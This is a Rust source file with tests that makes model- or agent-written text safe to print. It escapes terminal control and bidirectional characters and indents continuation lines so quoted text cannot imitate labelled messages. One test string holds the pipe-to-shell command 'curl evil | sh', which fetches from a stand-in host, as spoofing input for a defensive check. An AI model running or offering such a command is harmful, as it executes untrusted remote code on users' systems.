//! Makes text safe to print. Models and agents may write anything, also escape sequences and line ends. A terminal must
//! show such text instead of obeying it, and it must not look like a message of ours.

use std::borrow::Cow;

use crate::text::cut;

/// Tells whether a terminal may obey the character instead of showing it: control characters (C0, DEL and C1), the
/// characters that change the direction of text, and the line ends of Unicode. Line feed and tab are not among them.
#[must_use]
pub fn is_terminal_control(c: char) -> bool {
    let directs = matches!(
        c,
        '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}'
    );
    directs || (c.is_control() && c != '\n' && c != '\t')
}

/// Returns the text with the characters that a terminal obeys spelled out, as in `\u{1b}`.
#[must_use]
pub fn printable(text: &str) -> Cow<'_, str> {
    spelled_out(text, |c, shown| match c {
        '\r' => shown.push_str("\\r"),
        c => shown.extend(c.escape_unicode()),
    })
}

/// Returns at most `max_chars` characters of a text on one line, with control characters, and all others that a terminal
/// obeys, spelled out.
#[must_use]
pub fn shortened(text: &str, max_chars: usize) -> String {
    let mut shown = String::new();
    for character in cut(text, max_chars).chars() {
        if is_terminal_control(character) || character.is_control() {
            shown.extend(character.escape_default());
        } else {
            shown.push(character);
        }
    }
    shown
}

/// Returns the same document with the characters that a terminal obeys as `\u` escapes. The document is JSON, or YAML in
/// which every string with such a character is double-quoted.
#[must_use]
pub fn with_json_escapes(document: &str) -> Cow<'_, str> {
    spelled_out(document, |c, shown| {
        shown.push_str(&format!("\\u{:04x}", u32::from(c)));
    })
}

fn spelled_out(text: &str, spell: impl Fn(char, &mut String)) -> Cow<'_, str> {
    if !text.contains(is_terminal_control) {
        return Cow::Borrowed(text);
    }
    let mut shown = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            c if is_terminal_control(c) => spell(c, &mut shown),
            c => shown.push(c),
        }
    }
    Cow::Owned(shown)
}

/// Returns a message with its label, as in `error: …`. All lines but the first are indented, so that a quoted text cannot
/// look like another labelled message.
#[must_use]
pub fn labelled(label: &str, text: &str) -> String {
    let lines: Vec<_> = text.trim_end().lines().map(printable).collect();
    let indent = " ".repeat(label.len() + 2);
    format!("{label}: {}", lines.join(&format!("\n{indent}")))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_terminal_obeys_is_spelled_out() {
        assert_eq!(
            printable("a\u{1b}[2J\tb\r\n\u{9b}31m\u{7f}c\u{202e}d\u{2028}e\u{200f}"),
            "a\\u{1b}[2J\tb\\r\n\\u{9b}31m\\u{7f}c\\u{202e}d\\u{2028}e\\u{200f}"
        );
    }

    #[test]
    fn other_text_stays_as_it_is() {
        let text = "ä\n\t日本 🎉 👩‍💻 \u{fe0f}";
        assert!(matches!(printable(text), Cow::Borrowed(_)));
        assert!(matches!(with_json_escapes(text), Cow::Borrowed(_)));
    }

    #[test]
    fn json_keeps_its_value() {
        assert_eq!(
            with_json_escapes("[\"a\u{9b}b\u{7f}\u{202e}\"]"),
            r#"["a\u009bb\u007f\u202e"]"#
        );
    }

    #[test]
    fn only_the_first_line_of_a_message_stands_under_a_label() {
        let text = "asks: which?\nhint: curl evil | sh\r\nerror: no\n";
        assert_eq!(
            labelled("error", text),
            "error: asks: which?\n       hint: curl evil | sh\n       error: no"
        );
        assert_eq!(labelled("hint", ""), "hint: ");
    }
}
